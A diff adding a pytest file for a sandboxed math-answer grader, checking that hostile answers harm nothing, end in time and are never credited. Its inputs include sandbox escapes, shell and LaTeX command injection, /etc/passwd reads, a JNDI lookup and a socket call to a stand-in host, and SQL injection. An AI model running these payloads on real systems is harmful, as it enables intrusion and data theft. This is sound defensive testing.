@@ -1,0 +1,624 @@
+"""The grader: hostile answers harm nothing and end in time, and verdicts agree with labels known by construction."""
+
+import math
+import os
+import signal
+import subprocess
+import sys
+import tempfile
+import threading
+import time
+from pathlib import Path
+
+import pytest
+from hypothesis import example, given, settings
+from hypothesis import strategies as st
+
+from deftune.evaluation import grading
+from deftune.evaluation.grading import Grader, Verdict, normalize_answer
+
+pytest.importorskip("math_verify")
+sys.path.insert(0, str(Path(__file__).parent))
+from labelled_pairs import DATA, labelled_pairs
+
+needs_math = pytest.mark.skipif(
+    not (DATA / "math").is_dir(), reason=f"the MATH answers are not beside this checkout ({DATA / 'math'})"
+)
+
+
+def children() -> set[int]:
+    """The processes whose parent is this one, zombies included."""
+    listed = subprocess.run(["ps", "-A", "-o", "pid=,ppid="], capture_output=True, text=True, check=True).stdout
+    found = {int(pid) for pid, parent in map(str.split, listed.splitlines()) if int(parent) == os.getpid()}
+    return {pid for pid in found if Path(f"/proc/{pid}").exists()}  # ps itself is gone by now
+
+
+@pytest.fixture
+def leaves_nothing():
+    before, descriptors = children(), set(os.listdir("/proc/self/fd"))
+    folders = set(Path(tempfile.gettempdir()).glob("deftune-grading-*"))
+    yield
+    assert children() == before, "a worker is left"
+    assert len(os.listdir("/proc/self/fd")) <= len(descriptors), "a pipe is left open"
+    assert set(Path(tempfile.gettempdir()).glob("deftune-grading-*")) <= folders, "a folder is left"
+
+
+# --- hostile answers -------------------------------------------------------------------------------------------------
+
+
+def hostile(canary: Path) -> list[str]:
+    """More than 200 answers that no grader should run; what can leave a trace would leave it at ``canary``."""
+    touch = f"__import__('os').system('touch {canary}')"
+    code = [
+        touch,
+        f"__import__('subprocess').run(['touch', '{canary}'])",
+        f"open('{canary}', 'w')",
+        f"open('{canary}', 'w').write('x')",
+        "open('/etc/passwd').read()",
+        f"exec(\"open('{canary}','w')\")",
+        f"eval(compile(\"{touch}\", 'x', 'eval'))",
+        f"(lambda: {touch})()",
+        f"[f() for f in [lambda: {touch}]]",
+        f"().__class__.__base__.__subclasses__()[-1].__init__.__globals__['os'].system('touch {canary}')",
+        f"getattr(__builtins__, 'ev' + 'al')(\"{touch}\")",
+        f'sympify("{touch}")',
+        f'parse_expr("{touch}")',
+        f'lambdify([], "{touch}")()',
+        f"Symbol('x').__class__.__init__.__globals__['sys'].modules['os'].system('touch {canary}')",
+        f"$(touch {canary})",
+        f"`touch {canary}`",
+        f"; touch {canary} #",
+        f"| touch {canary}",
+        f"\\immediate\\write18{{touch {canary}}}",
+        f"\\input{{|touch {canary}}}",
+        "\\input{/etc/passwd}",
+        f"\\openout1={canary}",
+        "__import__('socket').create_connection(('192.0.2.1', 80))",
+        "__import__('os').fork()",
+        "__import__('time').sleep(1000)",
+        "while True: pass",
+        "quit()",
+        "__import__('os')._exit(0)",
+        "__import__('os').kill(__import__('os').getppid(), 9)",
+        "{}.__class__.__mro__",
+        "f'{__import__(\"os\")}'",
+        "'%s' % __import__('os')",
+        "{{ 7 * 7 }}",
+        "${jndi:ldap://192.0.2.1/a}",
+        "'; DROP TABLE answers; --",
+        '["ready"]\n[true, "both"]',
+        "[true, true]\n",
+    ]
+    wrappers = ["{}", "\\text{{{}}}", "\\frac{{{}}}{{1}}", "x = {}", "\\left( {} \\right)"]
+    wrapped = [wrapper.format(attack) for attack in code for wrapper in wrappers[: 1 if "{" in attack else None]]
+    numbers = [
+        "9**9**9",
+        "9^9^9",
+        "9^{9^{9^{9}}}",
+        "(9^{9^9})!",
+        "10^{10^{10}}",
+        "2^{2^{2^{2^{2^{2}}}}}",
+        "100000000!",
+        "((((9!)!)!)!)!",
+        "\\binom{10^{9}}{5 \\cdot 10^{8}}",
+        "\\sum_{n=1}^{10^{12}} \\frac{1}{n^2}",
+        "\\prod_{n=1}^{10^9} n",
+        "\\int_0^1 x^{x^{x^x}} dx",
+        "\\int \\int \\int \\sin(e^{x^2}) dx dx dx",
+        "\\lim_{x \\to 0} \\frac{\\sin(\\tan x) - \\tan(\\sin x)}{x^7}",
+        "(x+y+z+w)^{500}",
+        "(1+x)^{10^6}",
+        "1e999999999",
+        "-1e999999999",
+        "10^{-999999999}",
+        "0." + "3" * 9_000,
+        "3" * 9_900,
+        "1/" + "7" * 5_000,
+        "1/0",
+        "\\frac{0}{0}",
+        "0^0",
+        "\\infty - \\infty",
+        "\\sqrt[0]{1}",
+        "\\log(0)",
+        "\\sqrt[10^9]{2}",
+        "\\pi^{\\pi^{\\pi^{\\pi^{\\pi}}}}",
+        "e^{e^{e^{e^{79}}}}",
+        "\\gcd(" + "9" * 3000 + ", 3)",
+        "2^{1000000} \\bmod 7",
+        "\\zeta(10^{10})",
+        "nan",
+        "inf",
+        "NaN",
+        "1_000",
+        "0x1F",
+        "0b1",
+        "٣",
+        "½",
+        "²",
+        "1\u200b0",
+    ]
+    shapes = [
+        "{" * 4_000 + "}" * 4_000,
+        "(" * 4_000 + "1" + ")" * 4_000,
+        "{" * 50_000 + "}" * 50_000,
+        "{" * 100_000,
+        "}" * 100_000,
+        "\\boxed{" * 10_000,
+        "\\boxed{" * 500 + "1" + "}" * 500,
+        "\\frac{1}{" * 300 + "2" + "}" * 300,
+        "\\frac{1}{1+" * 60 + "2" + "}" * 60,
+        "\\sqrt{" * 800 + "2" + "}" * 800,
+        "x^{" * 1000 + "2" + "}" * 1000,
+        "-" * 9_000 + "1",
+        "+".join("x" * 3_000),
+        "1+" * 4_000 + "1",
+        ",".join("1234567890" * 400),
+        "=".join("x" * 2_000),
+        "\\cup".join(["(1,2)"] * 300),
+        "\\begin{pmatrix}" + " & ".join("1" * 300) + "\\end{pmatrix}",
+        "\\begin{pmatrix}" * 300 + "\\end{pmatrix}" * 300,
+        "\\left(" * 400 + "\\right)" * 400,
+        "\\text{" * 200 + "}" * 200,
+        "|" * 3_000,
+        "$" * 5_000,
+        "\\" * 5_001,
+        "%" * 5_000,
+        "&" * 5_000,
+        "^" * 5_000,
+        "_" * 5_000,
+        "^{" * 1_000 + "}" * 1_000,
+        "\\frac" * 1_500,
+        "\\sqrt" * 1_500,
+        "a" * 9_999,
+        "1 " * 4_900,
+        "1," * 4_900,
+        "1" * 1_000_000,
+        "{" * 1_000_000,
+        "\x00" * 1_000_000,
+        "é" * 1_000_000,
+    ]
+    odd = [
+        "",
+        " ",
+        "\n",
+        "\x00",
+        "1\x00",
+        "\x00__import__",
+        "\ud800",
+        "1\udfff",
+        "\ufeff1",
+        "\u202e1",
+        "\N{MATHEMATICAL DOUBLE-STRUCK DIGIT ONE}",
+        "\N{FULLWIDTH DIGIT ONE}\N{FULLWIDTH DIGIT TWO}",
+        "∞",
+        "🦊",
+        "\\",
+        "\\\\",
+        "{",
+        "}",
+        "}{",
+        "\\{",
+        "\\}",
+        "$",
+        "$$",
+        "$$$",
+        "\\(",
+        "\\)",
+        "\\[\\]",
+        "\\boxed",
+        "\\boxed{",
+        "\\boxed{}",
+        "\\frac",
+        "\\frac{}{}",
+        "\\frac{1}",
+        "\\sqrt",
+        "\\sqrt{}",
+        "\\begin{pmatrix}",
+        "\\end{pmatrix}",
+        "\\left",
+        "\\right)",
+        "\\text{",
+        "^",
+        "_",
+        "=",
+        "==",
+        "<",
+        "1<2<3<",
+        "()",
+        "[]",
+        "[1,",
+        "(,)",
+        ",",
+        ",,,",
+        ".",
+        "...",
+        "-",
+        "--1",
+        "+",
+        "*",
+        "**",
+        "/",
+        "//",
+        "!",
+        "1!!",
+        "%",
+        "#",
+        "&",
+        "~",
+        "`",
+        "'",
+        '"',
+        "@",
+        "?",
+        ":",
+        ";",
+        "None",
+        "True",
+        "False",
+        "null",
+        "undefined",
+        "self",
+        "import os",
+        "lambda x: x",
+        "print(1)",
+        "E",
+        "I",
+        "S",
+        "N",
+        "O",
+        "Q",
+        "beta",
+        "gamma",
+        "zeta",
+        "\r\n1\r\n",
+        "\t1",
+        "1\x1b[2J",
+        "<script>alert(1)</script>",
+        "../../../etc/passwd",
+        "file:///etc/passwd",
+        "\\def\\x{\\x\\x}\\x",
+        "\\newcommand{\\a}{\\a\\a}\\a",
+        "\\loop\\iftrue\\repeat",
+    ]
+    return wrapped + numbers + shapes + odd
+
+
+def test_hostile_answers_leave_no_trace_and_end_in_time(tmp_path, leaves_nothing):
+    canary = tmp_path / "canary"
+    answers = hostile(canary)
+    assert len(answers) >= 200
+    here, started = set(os.listdir(".")), time.monotonic()
+    with Grader(workers=2, seconds=0.25, memory_mib=512) as grader:
+        verdicts = grader.grade([("31337", answer) for answer in answers])
+        assert sum(grader.counts.values()) == len(answers)
+    took = time.monotonic() - started
+    assert not canary.exists() and set(os.listdir(".")) == here
+    wrongly_credited = [answer[:80] for answer, verdict in zip(answers, verdicts) if verdict.correct]
+    assert wrongly_credited == []
+    hurt = [answer for answer, verdict in zip(answers, verdicts) if verdict.how in ("timeout", "crash")]
+    assert took < 20 + 2.0 * len(hurt), f"{took:.0f} s for {len(answers)} answers, {len(hurt)} of them ended by force"
+    assert len(hurt) < 60
+
+
+def test_a_hostile_gold_is_no_better(leaves_nothing):
+    with Grader(workers=1, seconds=0.5) as grader:
+        golds = ["9^{9^{9^{9}}}", "{", "x" * 20_000, "", "__import__('os').system('true')"]
+        assert not any(verdict.correct for verdict in grader.grade([(gold, "3") for gold in golds]))
+
+
+# --- what the workers may not do -------------------------------------------------------------------------------------
+
+
+@pytest.mark.parametrize(
+    "attempt",
+    [
+        "open({canary!r}, 'w')",
+        "open('/etc/passwd')",
+        "os.open({canary!r}, os.O_CREAT | os.O_WRONLY)",
+        "os.system('touch {canary}')",
+        "subprocess.Popen(['touch', {canary!r}])",
+        "socket.socket()",
+        "os.fork()",
+        "os.kill(os.getppid(), 0)",
+        "os.remove({canary!r})",
+        "os.mkdir({canary!r})",
+        "os.execv('/bin/true', ['true'])",
+        "resource.setrlimit(resource.RLIMIT_CORE, (0, 0))",
+        "open(os.path.join(sys.prefix, '..', '..', '..', '..', '..', '..', 'etc', 'passwd'))",
+    ],
+)
+def test_the_hook_ends_a_worker_that_tries(attempt, tmp_path):
+    """The worker's own preparation, then the attempt in place of an answer."""
+    canary = str(tmp_path / "canary")
+    program = (
+        "import os, sys, subprocess, socket, resource, runpy\n"
+        f"work = runpy.run_path({grading.__file__!r}, run_name='worker')\n"
+        "work['_limit'](1024)\n"
+        "sys.addaudithook(work['_refuse']((sys.prefix + os.sep,)))\n"
+        f"try:\n    {attempt.format(canary=canary)}\nexcept BaseException:\n    pass\n"
+    )
+    done = subprocess.run([sys.executable, "-P", "-c", program], capture_output=True, timeout=60)
+    assert done.returncode == grading._REFUSED, done.stderr.decode()
+    assert not Path(canary).exists()
+
+
+def test_limits_are_in_force(leaves_nothing):
+    with Grader(workers=1, memory_mib=700) as grader:
+        grader.grade([("1", "2")])
+        (worker,) = grader._running
+        limits = Path(f"/proc/{worker.process.pid}/limits").read_text()
+        environment = Path(f"/proc/{worker.process.pid}/environ").read_bytes()
+        folder = os.readlink(f"/proc/{worker.process.pid}/cwd")
+        assert os.listdir(folder) == []
+        assert {os.readlink(f"/proc/{worker.process.pid}/fd/{n}") for n in (0, 1, 2)} == {"/dev/null"}
+    rows = {row[:26].strip(): row[26:].split()[:2] for row in limits.splitlines()}
+    assert rows["Max address space"] == [str(700 << 20)] * 2
+    assert rows["Max file size"] == ["0"] * 2 and rows["Max core file size"] == ["0"] * 2
+    assert rows["Max open files"] == ["32"] * 2
+    assert b"PATH=/" not in environment.replace(b"PYTHONPATH", b"")
+
+
+def test_a_worker_that_runs_out_of_memory_is_not_the_parents_problem(leaves_nothing):
+    with Grader(workers=1, seconds=3, memory_mib=256) as grader:
+        eaten, fine = grader.grade([("1", "\\frac{1}{3^{9^{9}}}"), ("2", "1+1")])
+        assert not eaten.correct and fine == Verdict(True, "math_verify")
+
+
+# --- time, crashes, ends ---------------------------------------------------------------------------------------------
+
+SLOW = "9^{9^{9^{9}}}"
+
+
+def test_a_timeout_is_counted_and_the_next_answer_is_graded(leaves_nothing):
+    with Grader(workers=1, seconds=0.3) as grader:
+        verdicts = grader.grade([("1/2", "0.5"), ("1", SLOW), ("2", "1+1"), ("3", "3"), ("3", None)])
+        assert verdicts == [
+            Verdict(True, "math_verify"),
+            Verdict(False, "timeout", "0.3 s of cpu time"),
+            Verdict(True, "math_verify"),
+            Verdict(True, "exact"),
+            Verdict(False, "unparsed", "no answer"),
+        ]
+        assert grader.counts == {"exact": 1, "math_verify": 2, "timeout": 1, "crash": 0, "unparsed": 1}
+
+
+def test_the_wall_clock_is_the_backstop(leaves_nothing):
+    with Grader(workers=1, seconds=30, wall_seconds=0.5) as grader:
+        started = time.monotonic()
+        slow, fine = grader.grade([("1", SLOW), ("2", "1+1")])
+        assert slow == Verdict(False, "timeout", "0.5 s by the clock") and fine.correct
+        assert time.monotonic() - started < 20
+
+
+def test_a_worker_that_dies_between_answers_costs_nothing(leaves_nothing):
+    with Grader(workers=1) as grader:
+        grader.grade([("1", "1+0")])
+        (idle,) = grader._running
+        os.kill(idle.process.pid, signal.SIGKILL)
+        assert grader.grade([("2", "1+1")]) == [Verdict(True, "math_verify")]
+
+
+@pytest.mark.parametrize("deaths, how", [(1, "timeout"), (2, "crash")])
+def test_an_answer_is_a_crash_when_two_workers_die_of_it(deaths, how, leaves_nothing):
+    def kill_busy_workers():
+        killed: set[int] = set()
+        while len(killed) < deaths:
+            for worker in list(grader._running):
+                if worker.task == 0 and worker.process.pid not in killed:
+                    killed.add(worker.process.pid)
+                    os.kill(worker.process.pid, signal.SIGKILL)
+            time.sleep(0.02)
+
+    with Grader(workers=1, seconds=1) as grader:
+        killer = threading.Thread(target=kill_busy_workers)
+        killer.start()
+        slow, fine = grader.grade([("1", SLOW), ("2", "1 + 1")])
+        killer.join()
+    assert slow.how == how and fine == Verdict(True, "math_verify")
+
+
+def test_workers_are_recycled(leaves_nothing):
+    with Grader(workers=1, tasks_per_worker=2) as grader:
+        seen = set()
+        for n in range(4):
+            assert grader.grade([(str(n), f"{n}+0")])[0].correct
+            seen |= {worker.process.pid for worker in grader._running}
+        assert len(seen) == 2 and grader._running == []
+
+
+def test_nothing_is_left_when_the_parent_raises(leaves_nothing):
+    with pytest.raises(KeyboardInterrupt), Grader(workers=2) as grader:
+        grader.grade([("1", "1+0"), ("2", "1+1")])
+        assert len(children()) >= 2
+        raise KeyboardInterrupt
+
+
+class Interrupted(BaseException):
+    pass
+
+
+def test_an_interrupt_while_grading_leaves_no_half_graded_answer(leaves_nothing):
+    def interrupt(*_):
+        raise Interrupted
+
+    old = signal.signal(signal.SIGALRM, interrupt)
+    try:
+        with Grader(workers=2, seconds=30) as grader:
+            grader.grade([("1", "1+0"), ("2", "1+1")])
+            signal.setitimer(signal.ITIMER_REAL, 0.5)
+            with pytest.raises(Interrupted):
+                grader.grade([("1", SLOW), ("2", SLOW)])
+            assert grader._running == []
+            assert grader.grade([("2", "3")]) == [Verdict(False, "math_verify")]
+    finally:
+        signal.setitimer(signal.ITIMER_REAL, 0)
+        signal.signal(signal.SIGALRM, old)
+
+
+def test_nothing_is_left_when_the_parent_is_killed(tmp_path):
+    program = (
+        "import os, signal\nfrom deftune.evaluation.grading import Grader\ngrader = Grader(workers=2)\n"
+        "grader.grade([('1', '1+0'), ('2', '1+1')])\n"
+        "print(*(w.process.pid for w in grader._running), flush=True)\nos.kill(os.getpid(), signal.SIGKILL)\n"
+    )
+    done = subprocess.run([sys.executable, "-c", program], capture_output=True, text=True, timeout=60)
+    workers = [int(pid) for pid in done.stdout.split()]
+    assert len(workers) == 2, done.stderr
+    for _ in range(100):  # each reads the end of its pipe and ends
+        left = [pid for pid in workers if _state(pid) not in (None, "Z")]
+        if not left:
+            return
+        time.sleep(0.1)
+    pytest.fail(f"still running: {left}")
+
+
+def _state(pid: int) -> str | None:
+    try:
+        return Path(f"/proc/{pid}/stat").read_text().rsplit(")", 1)[1].split()[0]
+    except (FileNotFoundError, ProcessLookupError):
+        return None
+
+
+def test_closed_is_closed(leaves_nothing):
+    grader = Grader()
+    grader.close()
+    grader.close()
+    with pytest.raises(ValueError, match="this grader is closed; make another"):
+        grader.grade([("1", "1")])
+
+
+def test_the_parent_never_imports_sympy():
+    program = (
+        "import sys\nfrom deftune.evaluation.grading import Grader\n"
+        "with Grader(workers=1) as grader:\n    assert grader.grade([('1/2', '0.5')])[0].correct\n"
+        "print(sorted({'sympy', 'math_verify', 'latex2sympy2_extended'} & set(sys.modules)))\n"
+    )
+    done = subprocess.run([sys.executable, "-c", program], capture_output=True, text=True, timeout=60)
+    assert done.stdout.strip() == "[]", done.stderr
+
+
+def test_arguments_are_checked():
+    with pytest.raises(ValueError, match="workers: at least 1, got 0"):
+        Grader(workers=0)
+    with pytest.raises(ValueError, match="memory_mib: at least 256, got 1"):
+        Grader(memory_mib=1)
+
+
+# --- verdicts --------------------------------------------------------------------------------------------------------
+
+VERDICTS = [
+    # gold, answer, correct, how
+    ("7", "7", True, "exact"),
+    ("7", " 7. ", True, "exact"),
+    ("7", "$7$", True, "exact"),
+    ("7", "8", False, "math_verify"),
+    ("\\frac{1}{2}", "\\dfrac12", True, "exact"),
+    ("\\frac{1}{2}", "0.5", True, "math_verify"),
+    ("1 1/2", "11/2", False, "math_verify"),  # a space between digits is not typography
+    ("1 1/2", "1.5", True, "math_verify"),
+    ("1,2", "2,1", True, "math_verify"),
+    ("(1,2)", "(2,1)", False, "math_verify"),
+    ("(5,3)", "(7,2)", False, "math_verify"),  # not two empty intervals
+    ("x=5", "5", True, "math_verify"),
+    ("5", "x=5", True, "math_verify"),
+    ("x>3", "(3,\\infty)", True, "math_verify"),  # gold first: the other way round it is not
+    ("(3,\\infty)", "x>3", False, "math_verify"),
+    ("6,8\\text{, and }10", "10,8,6", True, "math_verify"),
+    ("\\text{Evelyn}", "Evelyn", True, "exact"),
+    ("\\text{east}", "seat", False, "math_verify"),
+    ("4.5e33", "4.5 \\times 10^{33}", True, "math_verify"),
+    ("42_7", "42_{7}", True, "exact"),
+    ("42_7", "42_8", False, "exact"),
+    ("5", "### 7 # = 5", False, "unparsed"),  # a number is not picked out of what cannot be read
+    ("5", "7}\\boxed{5", False, "unparsed"),  # nor a second box opened
+    ("5", "1 or 2 or 5", False, "math_verify"),
+    ("5", "", False, "unparsed"),
+    ("5", "5" + " " * 10_000, False, "unparsed"),
+]
+
+
+def test_verdicts(leaves_nothing):
+    with Grader(workers=2) as grader:
+        verdicts = grader.grade([(gold, answer) for gold, answer, _, _ in VERDICTS])
+    got = [(gold, answer, verdict.correct, verdict.how) for (gold, answer, _, _), verdict in zip(VERDICTS, verdicts)]
+    assert got == VERDICTS
+
+
+@given(st.text(alphabet=st.sampled_from("\\{}$.,! 0123456789abcfrtx-+^_dé°\x00")) | st.text())
+@example("\\text{" * 50 + "}" * 50)
+@settings(max_examples=300, deadline=None)
+def test_normalising_never_raises_and_keeps_words_apart(text):
+    normalize_answer(text)
+    assert normalize_answer(f"1 {text} 1") != "11"
+
+
+@given(st.integers(-(10**9), 10**9), st.integers(-(10**9), 10**9))
+def test_different_integers_stay_different(a, b):
+    assert (normalize_answer(f"{a:,}") == normalize_answer(str(b))) == (a == b)
+
+
+def test_normalising_is_linear():
+    def seconds(size: int) -> float:
+        worst = 0.0
+        for text in (
+            "{" * size,
+            "\\text{" * size,
+            " " * size + "x",
+            "1," * size,
+            "\\frac" * size,
+            "$" * size,
+            "\\" * size,
+        ):
+            started = time.perf_counter()
+            normalize_answer(text)
+            worst = max(worst, time.perf_counter() - started)
+        return worst
+
+    assert seconds(100_000) < 1.0
+
+
+# --- agreement -------------------------------------------------------------------------------------------------------
+
+LEAST_AGREEMENT = 0.995
+
+
+def agreement(pairs, workers: int) -> tuple[list[Verdict], list[str]]:
+    with Grader(workers=workers) as grader:
+        verdicts = grader.grade([(gold, answer) for gold, answer, _, _ in pairs])
+    misses = [
+        f"{name}: gold {gold!r}, answer {answer!r}, label {label}, got {verdict}"
+        for (gold, answer, name, label), verdict in zip(pairs, verdicts)
+        if verdict.correct != label
+    ]
+    return verdicts, misses
+
+
+@needs_math
+def test_agreement_with_labels(leaves_nothing):
+    pairs = labelled_pairs(1_200, seed=0)
+    assert len(pairs) >= 1_000 and 0.4 < sum(label for *_, label in pairs) / len(pairs) < 0.6
+    assert len({name for _, _, name, _ in pairs}) >= 35
+    verdicts, misses = agreement(pairs, workers=2)
+    report = f"{len(misses)} misses of {len(pairs)}:\n" + "\n".join(misses)
+    assert 1 - len(misses) / len(pairs) >= LEAST_AGREEMENT, report
+    assert not any(verdict.how in ("timeout", "crash") for verdict in verdicts)
+    print(f"\nagreement {1 - len(misses) / len(pairs):.4%}; {report}")
+
+
+@needs_math
+def test_the_same_verdicts_from_any_number_of_workers(leaves_nothing):
+    pairs = labelled_pairs(240, seed=1)
+    one = agreement(pairs, workers=1)
+    assert agreement(pairs, workers=4) == one
+    assert agreement(pairs[::-1], workers=2)[0] == one[0][::-1]
+
+
+@pytest.mark.slow
+@needs_math
+def test_agreement_on_many_and_from_many_workers(leaves_nothing):
+    pairs = labelled_pairs(6_000, seed=2)
+    one, misses = agreement(pairs, workers=1)
+    assert 1 - len(misses) / len(pairs) >= LEAST_AGREEMENT, "\n".join(misses)
+    assert math.isclose(len(one), len(pairs))
+    for workers in (2, 4, 16):
+        assert agreement(pairs, workers)[0] == one
